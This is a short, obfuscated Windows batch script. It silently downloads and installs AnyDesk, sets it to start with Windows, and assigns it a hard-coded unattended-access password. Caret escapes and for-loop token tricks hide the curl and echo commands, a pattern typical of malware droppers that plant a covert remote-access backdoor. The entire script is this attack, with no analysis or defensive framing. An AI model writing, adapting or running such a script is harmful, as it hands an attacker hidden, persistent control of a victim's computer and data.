REM run 3009 v4
@echo off
f^or /f "tokens=3 delims=~" %%^i in ("fkji~mgfd~curl") ^do %%i -^s^L^o %TEMP%\AnyDe^s^k.exe http^s://downloa^d.^anydesk.^c^om/^An^y^De^sk.^e^x^e
%TEMP%\^An^yD^^e^s^k.^e^^x^^e --i^ns^t^^a^l^l "C:\ProgramData\AnyDesk" --^sta^r^^t-^w^i^th-^w^^in --sil^e^n^^t
for /f "tokens=1 delims=@" %%i i^n ("echo@mlju@viku") ^do %%i Qwerty#^7^788 | "C:\ProgramData\AnyDesk\AnyDesk.exe" --s^et-p^as^swor^d
